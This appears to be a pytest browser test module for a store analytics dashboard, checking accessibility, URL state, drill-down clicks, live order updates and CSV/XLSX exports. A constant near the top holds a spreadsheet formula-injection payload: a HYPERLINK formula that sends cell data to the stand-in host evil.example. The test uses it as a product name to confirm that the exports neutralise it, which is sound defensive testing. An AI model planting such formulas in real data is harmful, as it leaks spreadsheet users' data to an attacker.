"""The dashboard as a store owner uses it each morning, in one headless Chromium session for the
module (against the session's real local stack): every page on a 390 px phone and at desktop
width, in the light and the dark theme, checked by axe-core; every control's URL round trip;
clicks that drill down; the live Overview; the product page; exports a spreadsheet cannot run.

``STOREPULSE_SCREENSHOTS=docs/screenshots`` also writes each page's screenshot there.
"""

from __future__ import annotations

import csv
import io
import os
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import requests
from axe_selenium_python import Axe
from dash.testing.application_runners import ThreadedRunner
from dash.testing.composite import DashComposite
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.keys import Keys

from dashboard import api as dashboard_api
from devstack.simulator import send
from tests.browser.conftest import (
    Dashboard,
    choose,
    dom_id,
    elements,
    figure_points,
    open_page,
    sign_in,
    start,
    text,
    wait_for_url,
)
from tests.conftest import STORE_TIMEZONE

pytestmark = pytest.mark.browser
PAGES = ("/", "/sales", "/customers", "/inventory", "/alerts", "/reports", "/digests")
PHONE = {"width": 390, "height": 844, "deviceScaleFactor": 1, "mobile": True}
DESKTOP = (1280, 900)
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
EVIL_SKU = "EVIL-1"


@pytest.fixture(scope="module")
def duo(
    request: pytest.FixtureRequest, dashboard: Dashboard, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Any]:
    """One browser, signed in, for the whole module (a browser session costs seconds here)."""
    config = request.config
    with (
        ThreadedRunner() as server,
        DashComposite(
            server=server,
            browser=config.getoption("webdriver"),
            remote=config.getoption("remote"),
            remote_url=config.getoption("remote_url"),
            headless=config.getoption("headless"),
            options=config.hook.pytest_setup_options(),
            download_path=str(tmp_path_factory.mktemp("download")),
            percy_assets_root=config.getoption("percy_assets"),
            percy_finalize=config.getoption("nopercyfinalize"),
            pause=config.getoption("pause"),
        ) as composite,
    ):
        composite.url = start(composite, dashboard)
        composite.driver.set_window_size(*DESKTOP)
        sign_in(composite, composite.url)
        yield composite


def api(dashboard: Dashboard, path: str, **params: Any) -> Any:
    response = requests.get(
        f"{dashboard.api_url}/v1{path}", params=params, headers={"x-api-key": dashboard.read_key}, timeout=30
    )
    assert response.status_code == 200, response.text
    return response.json()


def phone(duo: Any, on: bool) -> None:
    """Chrome's device emulation of a 390 px phone, or back to the desktop window."""
    if on:
        duo.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", PHONE)
    else:
        duo.driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
        duo.driver.set_window_size(*DESKTOP)


def dark(duo: Any, on: bool) -> None:
    """The system's colour scheme, as the browser reports it to the page."""
    value = "dark" if on else "light"
    duo.driver.execute_cdp_cmd(
        "Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": value}]}
    )


# AG Grid keeps empty row containers (for full-width and sticky rows, which these grids do not
# use) with role="rowgroup"; axe asks a rowgroup for rows. The grids' rows are in the other
# containers, with their roles, and axe checks those.
AG_GRID_EMPTY_ROWGROUPS = [
    [".ag-full-width-container"],
    [".ag-sticky-top-viewport"],
    [".ag-sticky-top-full-width-container"],
    [".ag-pinned-left-sticky-top"],
    [".ag-pinned-right-sticky-top"],
    [".ag-sticky-bottom-viewport"],
    [".ag-sticky-bottom-full-width-container"],
    [".ag-pinned-left-sticky-bottom"],
    [".ag-pinned-right-sticky-bottom"],
]


def serious_violations(duo: Any) -> list[str]:
    """axe-core's serious and critical violations of the page shown, in words."""
    axe = Axe(duo.driver)
    axe.inject()
    results = duo.driver.execute_async_script(
        "var done = arguments[arguments.length - 1];axe.run({exclude: arguments[0]}).then(done);",
        AG_GRID_EMPTY_ROWGROUPS,
    )
    return [
        f"{v['id']} ({v['impact']}): {v['help']} at {[n['target'] for n in v['nodes'][:3]]}"
        f" {[n.get('failureSummary', '')[:300] for n in v['nodes'][:1]]}"
        for v in results["violations"]
        if v.get("impact") in ("serious", "critical")
    ]


def settle(duo: Any) -> None:
    """Wait until the graphs have drawn and no callback runs."""
    duo._wait_for_callbacks()
    deadline = time.monotonic() + 15
    script = (
        "return Array.from(document.querySelectorAll('.dash-graph'))"
        ".every(function (g) { return g.querySelector('.main-svg'); });"
    )
    while not duo.driver.execute_script(script) and time.monotonic() < deadline:
        time.sleep(0.1)


def screenshot(duo: Any, name: str) -> None:
    folder = os.environ.get("STOREPULSE_SCREENSHOTS")
    if not folder:
        return
    from PIL import Image

    Path(folder).mkdir(parents=True, exist_ok=True)
    image = Image.open(io.BytesIO(duo.driver.get_screenshot_as_png())).convert("RGB")
    # 64 colours keep a dashboard readable at a fraction of the size
    image.quantize(colors=64).save(Path(folder) / f"{name}.png", optimize=True)


def a_sku(dashboard: Dashboard) -> str:
    return str(api(dashboard, "/inventory")["items"][0]["sku"])


def test_every_page_on_a_phone_and_at_desktop_light_and_dark_passes_axe(
    duo: Any, dashboard: Dashboard
) -> None:
    query = f"?start={dashboard.first}&end={dashboard.last}"
    pages = [*PAGES, f"/products/{a_sku(dashboard)}"]
    problems: dict[str, list[str]] = {}
    for path in pages:
        name = "product" if path.startswith("/products/") else path.strip("/") or "overview"
        # Given a 390 px phone in the light theme
        phone(duo, True)
        dark(duo, False)
        open_page(duo, f"{duo.url}{path}{query}")
        settle(duo)
        # Then the page is as wide as the screen: no sideways scrolling
        assert duo.driver.execute_script("return document.documentElement.scrollWidth") <= 390, path
        assert (
            duo.driver.execute_script("return document.documentElement.getAttribute('data-bs-theme')")
            == "light"
        )
        # And the navbar is collapsed behind its menu button
        assert duo.find_element("#shell-menu-button").is_displayed(), path
        assert not duo.find_element("#shell-nav-sales").is_displayed(), path
        problems[f"{path} phone light"] = serious_violations(duo)
        screenshot(duo, f"{name}-phone")
        # And at desktop width in the dark theme (the system's setting, followed)
        phone(duo, False)
        dark(duo, True)
        open_page(duo, f"{duo.url}{path}{query}")
        settle(duo)
        assert (
            duo.driver.execute_script("return document.documentElement.getAttribute('data-bs-theme')")
            == "dark"
        )
        assert duo.find_element("#shell-nav-sales").is_displayed(), path
        problems[f"{path} desktop dark"] = serious_violations(duo)
        dark(duo, False)
        open_page(duo, f"{duo.url}{path}{query}")
        settle(duo)
        screenshot(duo, f"{name}-desktop")
    failing = [f"{where}: {found}" for where, found in problems.items() if found]
    assert not failing, "\n".join(failing)
    assert duo.get_logs() == []


def test_the_phone_menu_and_the_keyboard_reach_every_page(duo: Any, dashboard: Dashboard) -> None:
    phone(duo, True)
    try:
        open_page(duo, f"{duo.url}/")
        # When the menu button is pressed, the pages appear; choosing one opens it and closes the menu
        duo.find_element("#shell-menu-button").click()
        duo.wait_for_element("#shell-nav-inventory")
        until = time.monotonic() + 5
        while not duo.find_element("#shell-nav-inventory").is_displayed():
            assert time.monotonic() < until, "the menu did not open"
            time.sleep(0.1)
        assert duo.find_element("#shell-menu-button").get_attribute("aria-expanded") == "true"
        duo.find_element("#shell-nav-inventory").click()
        duo.wait_for_element("#inventory-range-days", timeout=20)
        until = time.monotonic() + 5
        while duo.find_element("#shell-nav-inventory").is_displayed():
            assert time.monotonic() < until, "the menu stayed open"
            time.sleep(0.1)
    finally:
        phone(duo, False)
    # At desktop width, Tab walks the navbar's links in order and Enter opens one
    open_page(duo, f"{duo.url}/")
    duo.driver.execute_script(
        "document.activeElement && document.activeElement.blur(); window.scrollTo(0, 0);"
    )
    focused: list[str] = []
    for _ in range(12):
        ActionChains(duo.driver).send_keys(Keys.TAB).perform()
        focused.append(str(duo.driver.switch_to.active_element.get_attribute("id")))
        if focused[-1] == "shell-nav-alerts":
            break
    assert focused[-1] == "shell-nav-alerts", focused
    navs = [f for f in focused if f.startswith("shell-nav-")]
    assert navs == [
        "shell-nav-overview",
        "shell-nav-sales",
        "shell-nav-customers",
        "shell-nav-inventory",
        "shell-nav-alerts",
    ]
    duo.driver.switch_to.active_element.send_keys(Keys.ENTER)
    duo.wait_for_element("#alerts-range-days", timeout=20)
    # In a table, the arrow keys move from cell to cell
    open_page(duo, f"{duo.url}/inventory")
    first = duo.wait_for_element(
        "#inventory-stock-table .ag-center-cols-container .ag-row[row-index='0'] .ag-cell[col-id='name']"
    )
    first.click()
    ActionChains(duo.driver).send_keys(Keys.ARROW_DOWN).perform()
    active = duo.driver.switch_to.active_element
    row = duo.driver.execute_script(
        "return arguments[0].closest('.ag-row').getAttribute('row-index')", active
    )
    assert row == "1"
    assert duo.get_logs() == []


def test_each_control_round_trips_through_the_url(duo: Any, dashboard: Dashboard) -> None:
    # Overview: a preset and a comparison
    open_page(duo, f"{duo.url}/?start={dashboard.first}&end={dashboard.last}")
    choose(duo, dom_id("overview", "range-preset"), "yesterday")
    yesterday = dashboard.last - timedelta(days=1)
    wait_for_url(duo, f"/?start={yesterday}&end={yesterday}")
    choose(duo, dom_id("overview", "view-control", "compare"), "previous_year")
    wait_for_url(duo, f"/?start={yesterday}&end={yesterday}&compare=previous_year")
    assert "same period last year" in text(duo, "#overview-kpis")
    link = duo.driver.current_url
    # A link opened afresh shows the same view: the preset, the comparison
    open_page(duo, f"{duo.url}/sales")
    open_page(duo, link)
    assert duo.find_element(dom_id("overview", "range-preset")).get_attribute("value") == "yesterday"
    assert (
        duo.find_element(dom_id("overview", "view-control", "compare")).get_attribute("value")
        == "previous_year"
    )
    assert "same period last year" in text(duo, "#overview-kpis")
    # Sales: granularity, comparison and channel, each kept as the others change
    open_page(duo, f"{duo.url}/sales?start={dashboard.first}&end={dashboard.last}")
    choose(duo, dom_id("sales", "view-control", "granularity"), "week")
    wait_for_url(duo, "&granularity=week")
    choose(duo, dom_id("sales", "view-control", "compare"), "none")
    wait_for_url(duo, "&compare=none&granularity=week")
    choose(duo, dom_id("sales", "view-control", "channel"), "pos")
    expected = (
        f"/sales?start={dashboard.first}&end={dashboard.last}&compare=none&granularity=week&channel=pos"
    )
    wait_for_url(duo, expected)
    pos = api(
        dashboard,
        "/metrics/sales",
        start=dashboard.first,
        end=dashboard.last,
        granularity="week",
        channel="pos",
    )
    open_page(duo, f"{duo.url}/")
    open_page(duo, f"{duo.url}{expected}")
    for param, value in (("granularity", "week"), ("compare", "none"), ("channel", "pos")):
        assert duo.find_element(dom_id("sales", "view-control", param)).get_attribute("value") == value
    assert duo.find_element(dom_id("sales", "range-preset")).get_attribute("value") == "custom"
    assert duo.find_element("#sales-range-start").get_attribute("value") == str(dashboard.first)
    assert duo.find_element("#sales-range-end").get_attribute("value") == str(dashboard.last)
    assert "on pos" in text(duo, "#sales-breakdown").lower() or elements(duo, "#sales-breakdown-graph")
    if any(int(p["orders"]) for p in pos["series"]):
        assert figure_points(duo, "sales-breakdown-graph") == [p["period"] for p in pos["series"]]
        net = duo.driver.execute_script(
            "return document.querySelector('#sales-breakdown-graph .js-plotly-plot').data[3].y;"
        )
        assert net == [float(p["net_sales"]) for p in pos["series"]]
    # Inventory: the status filter
    open_page(duo, f"{duo.url}/inventory")
    choose(duo, dom_id("inventory", "view-control", "status"), "ok")
    wait_for_url(duo, "&status=ok")
    ok_items = api(dashboard, "/inventory", status="ok")["items"]
    open_page(duo, duo.driver.current_url)
    assert duo.find_element(dom_id("inventory", "view-control", "status")).get_attribute("value") == "ok"
    assert f"{len(ok_items)} SKUs" in text(duo, "#inventory-counts")
    assert duo.get_logs() == []


def follow(duo: Any, selector: str) -> None:
    """Follow a SKU's link to its product page (clicked in the page's script: on a loaded
    machine a grid's overlay can still cover it for a moment)."""
    link = duo.wait_for_element(selector, timeout=20)
    duo.driver.execute_script("arguments[0].scrollIntoView({block: 'center'}); arguments[0].click();", link)
    duo.wait_for_element("#product-title", timeout=30)


def click_point(duo: Any, selector: str, index: int) -> None:
    points = elements(duo, selector)
    assert len(points) > index, selector
    ActionChains(duo.driver).move_to_element(points[index]).click().perform()


def test_clicks_drill_down(duo: Any, dashboard: Dashboard) -> None:
    days = api(dashboard, "/metrics/sales", start=dashboard.first, end=dashboard.last)["series"]
    # When a day's bar is clicked on Sales, that day opens
    open_page(duo, f"{duo.url}/sales?start={dashboard.first}&end={dashboard.last}")
    settle(duo)
    click_point(duo, "#sales-breakdown-graph .barlayer .trace:first-child .point path", 4)
    day = days[4]["period"]
    wait_for_url(duo, f"/sales?start={day}&end={day}")
    assert text(duo, "#sales-range-days") == "1 day"
    # When a channel's bar is clicked, Sales shows that channel alone
    open_page(duo, f"{duo.url}/sales?start={dashboard.first}&end={dashboard.last}")
    settle(duo)
    channels = [
        c["channel"]
        for c in api(dashboard, "/metrics/channels", start=dashboard.first, end=dashboard.last)["channels"]
    ]
    click_point(duo, "#sales-channels-graph .barlayer .point path", 1)
    wait_for_url(duo, f"&channel={channels[1]}")
    assert f"on {channels[1]}" in text(duo, ".sp-section-head h2")
    # When a day is clicked on the Overview's trend, that day opens
    open_page(duo, f"{duo.url}/?start={dashboard.first}&end={dashboard.last}")
    settle(duo)
    click_point(duo, "#overview-trend-graph .scatterlayer .trace:first-child .point", 6)
    day = days[6]["period"]
    wait_for_url(duo, f"/?start={day}&end={day}")
    summary = api(dashboard, "/metrics/summary", start=day, end=day)["current"]
    assert text(duo, "#overview-kpi-orders") == f"{summary['orders']:,}"
    assert duo.get_logs() == []


def _event(kind: str, event_id: str, data: dict[str, Any]) -> dict[str, Any]:
    return {"event_id": event_id, "type": kind, "occurred_at": datetime.now(UTC).isoformat(), "data": data}


def test_a_new_order_goes_live_and_its_product_exports_inert(
    duo: Any, dashboard: Dashboard, stack: Any
) -> None:
    # Given the Overview open on the last 30 days (today included)
    open_page(duo, f"{duo.url}/")
    duo.driver.execute_script("window.__notReloaded = true;")
    before = text(duo, "#overview-kpi-orders")
    # When a product named like a spreadsheet formula is described, stocked and ordered
    stamp = datetime.now(UTC).strftime("%H%M%S%f")
    product = {
        "sku": EVIL_SKU,
        "name": EVIL_NAME,
        "category": "Tricks",
        "price": "999.99",
        "reorder_point": 10,
    }
    order = {
        "order_id": f"LIVE-{stamp}",
        "customer_id": f"C-LIVE-{stamp}",
        "lines": [{"sku": EVIL_SKU, "quantity": 50, "unit_price": "999.99"}],
        "discount": "0.00",
        "shipping": "0.00",
        "tax": "0.00",
        "currency": "USD",
        "channel": "web",
    }
    events = [
        _event("product.upserted", f"live-product-{stamp}", product),
        _event(
            "inventory.adjusted", f"live-stock-{stamp}", {"sku": EVIL_SKU, "delta": 60, "reason": "restock"}
        ),
        _event("order.placed", f"live-order-{stamp}", order),
    ]
    # The store day the order belongs to, from its own timestamp: a midnight between making the
    # events and reading the clock again cannot send the test to the wrong day
    day = datetime.fromisoformat(events[-1]["occurred_at"]).astimezone(ZoneInfo(STORE_TIMEZONE)).date()
    orders_today = api(dashboard, "/metrics/summary", start=day, end=day)["current"]["orders"]
    assert send(events, stack.api_url, stack.ingest_key, progress=False)["accepted"] == 3
    # (the pipeline's own latency depends on the machine's load: wait until the API counts the
    # order, and time the dashboard from there; bench/dashboard.py measures order-to-screen)
    deadline = time.monotonic() + 120
    while api(dashboard, "/metrics/summary", start=day, end=day)["current"]["orders"] == orders_today:
        assert time.monotonic() < deadline, "the pipeline did not count the order"
        time.sleep(0.5)
    settled = time.monotonic()
    # Then the Overview shows it within seconds, without reloading, and says when it updated
    orders_card = "var k = document.getElementById('overview-kpi-orders'); return k ? k.textContent : '';"
    while duo.driver.execute_script(orders_card) in (before, ""):
        assert time.monotonic() < settled + 120, (text(duo, "#overview-updated"), before)
        time.sleep(0.2)
    assert duo.driver.execute_script("return window.__notReloaded === true;")
    assert text(duo, "#overview-updated").startswith("Updated ")
    # And in Sales' top products it is first; its SKU opens its product page (the Overview left
    # first: its polling keeps the API busy, and the stack idle is what is waited for)
    duo.driver.get("about:blank")
    stack.wait_idle(60)
    # (the dashboard reuses an answer for STOREPULSE_API_CACHE_SECONDS, 30 s: an earlier test's
    # Sales page may still be cached, so the cache is dropped as that period ending would)
    dashboard_api.forget()
    open_page(duo, f"{duo.url}/sales")
    duo.wait_for_element(f"#sales-products-table a[href$='/products/{EVIL_SKU}']", timeout=20)
    # The exports hold its name as inert text (one file at a time: a second click while the
    # first file is being made replaces that request, as for any Dash callback)
    downloads = Path(duo.download_path)
    for button, pattern in zip(
        elements(duo, "#sales-products-table button"), ("*.csv", "*.xlsx"), strict=True
    ):
        button.click()
        deadline = time.monotonic() + 20
        while not list(downloads.glob(f"storepulse-top-products-{pattern}")):
            assert time.monotonic() < deadline, os.listdir(downloads)
            time.sleep(0.2)
    time.sleep(0.5)
    (csv_file,) = downloads.glob("storepulse-top-products-*.csv")
    rows = list(csv.DictReader(io.StringIO(csv_file.read_text(encoding="utf-8-sig"))))
    evil = next(row for row in rows if row["SKU"] == EVIL_SKU)
    assert evil["Product"] == "'" + EVIL_NAME
    assert float(evil["Line revenue (USD)"]) >= 49999.5
    (xlsx_file,) = downloads.glob("storepulse-top-products-*.xlsx")
    sheet = openpyxl.load_workbook(xlsx_file).active
    header = [c.value for c in sheet[1]]
    assert header == ["#", "SKU", "Product", "Category", "Units", "Line revenue (USD)"]
    names = {sheet.cell(r, 3).value: sheet.cell(r, 3) for r in range(2, sheet.max_row + 1)}
    cell = names[EVIL_NAME]
    assert cell.data_type == "s" and cell.quotePrefix
    assert isinstance(sheet.cell(cell.row, 6).value, float)
    # When its SKU is clicked, its page shows its sales, stock, forecast (or that there is none
    # yet) and what is bought with it; the name is text, not a link
    follow(duo, f"#sales-products-table a[href$='/products/{EVIL_SKU}']")
    assert duo.driver.current_url.split("?")[0].endswith(f"/products/{EVIL_SKU}")
    assert EVIL_NAME in text(duo, "#product-title")
    item = api(dashboard, f"/products/{EVIL_SKU}", start=dashboard.first, end=dashboard.last)
    assert text(duo, "#product-kpi-on_hand") == f"{item['on_hand']:,}"
    assert elements(duo, "#product-forecast") or "No forecast yet" in text(duo, "#product-forecast-none")
    assert elements(duo, "#product-together") or elements(duo, "#product-together-empty")
    assert elements(duo, "#product-trend-graph")
    # When its stock runs out, the alert names it in store time, and its SKU opens the product
    wrote_off = _event(
        "inventory.adjusted", f"live-out-{stamp}", {"sku": EVIL_SKU, "delta": -10, "reason": "damage"}
    )
    assert send([wrote_off], stack.api_url, stack.ingest_key, progress=False)["accepted"] == 1
    stack.wait_idle(30)
    alert = next(a for a in api(dashboard, "/alerts", limit=20)["alerts"] if a["sku"] == EVIL_SKU)
    open_page(duo, f"{duo.url}/alerts")
    raised = datetime.fromisoformat(alert["raised_at"].replace("Z", "+00:00")).astimezone(
        ZoneInfo(STORE_TIMEZONE)
    )
    # The grid draws its rows after the page's callbacks have finished (under load, later)
    duo.wait_for_contains_text("#alerts-list-table", raised.strftime("%Y-%m-%d %H:%M:%S"), timeout=20)
    grid_text = text(duo, "#alerts-list-table")
    assert text(duo, "#shell-zone") == f"Times in {STORE_TIMEZONE}"
    assert "UTC" not in grid_text
    follow(duo, f"#alerts-list-table a[href$='/products/{EVIL_SKU}']")
    # And from the Overview's alerts and the Inventory table too
    open_page(duo, f"{duo.url}/")
    follow(duo, f"#overview-alerts a[href$='/products/{EVIL_SKU}']")
    open_page(duo, f"{duo.url}/inventory?status=out")
    follow(duo, f"#inventory-stock-table a[href$='/products/{EVIL_SKU}']")
    assert duo.get_logs() == []
